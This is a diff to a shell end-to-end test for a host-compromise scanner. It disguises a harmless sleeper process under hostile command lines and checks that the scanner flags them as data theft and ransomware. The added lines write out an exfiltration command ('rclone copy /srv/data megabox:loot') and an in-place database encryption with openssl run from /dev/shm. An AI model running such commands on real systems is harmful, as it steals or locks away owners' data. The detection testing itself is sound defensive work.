@@ -9,7 +9,9 @@
 # root history that deletes the backups, and a dump under /var/backups
 # (not reported).  Then the bounded walk: 30,000 files in a web root with
 # the entry cap lowered to 10,000 (ROOKMELDER_WALK_MAX, for tests): the
-# scan stays fast and says in scan.skipped where it stopped.
+# scan stays fast and says in scan.skipped where it stopped.  Live: a
+# program running as "rclone copy ... megabox:loot" (RM-DAT-001) and one as
+# "openssl enc" from /dev/shm (RM-RAN-002 high).
 . "$(dirname "$0")/lib.sh"
 
 R=$T/img
@@ -179,4 +181,31 @@ jq_true "$T/big.json" '[.scan.skipped[] | select(.check == "web roots" and (.rea
 	"the cap is not recorded with where the walk stopped: $(jq -c .scan.skipped "$T/big.json")"
 [ "$ms" -lt 20000 ] || fail "the capped scan took $ms ms"
 say "web/data image: $(jq '.findings | length' "$T/img.json") findings; capped walk of 30000 files: ${ms} ms"
+
+# ---- live: a sync to a remote and an encryptor (sleeper, renamed) ----------
+# rclone from a plain directory (medium: an administrator could run it);
+# "openssl enc" from /dev/shm (high: from a writable directory)
+rm -rf "$B" "$R"   # the live scan walks /tmp: not through the fixtures
+plain_dir || skip "no directory with a plain path to run the helper from"
+cp "$HELPERS/sleeper" "$PLAIN/rclone"
+cd "$PLAIN" || fail "cannot enter $PLAIN"  # its cwd is not /tmp either
+bg rc "$PLAIN/rclone" -n rclone -0 "rclone copy /srv/data megabox:loot" -t 60
+P_RC=$BG_PID
+cd "$T" || fail "cannot go back to $T"
+SHM=/dev/shm/rm-e2e-42-$$
+track_path "$SHM"
+mkdir "$SHM" && cp "$HELPERS/sleeper" "$SHM/openssl" || skip "cannot write /dev/shm"
+bg enc "$SHM/openssl" -n openssl -0 "openssl enc -aes-256-cbc -in /srv/db -out /srv/db.enc" -t 60
+P_ENC=$BG_PID
+wait_ready rc
+wait_ready enc
+rm_json "$T/live.json" --cpu-window 0 --no-pid-probe --no-packages
+expect_finding "$T/live.json" RM-DAT-001 "$P_RC" medium
+f_eq .evidence.tool rclone
+f_eq .evidence.remote megabox:loot
+f_eq .rule.category data-theft
+expect_finding "$T/live.json" RM-RAN-002 "$P_ENC" high
+f_eq .evidence.tool openssl
+f_eq '.evidence.context | contains("writable")' true
+no_finding "$T/live.json" RM-RAN-002 "$P_RC"
 finish
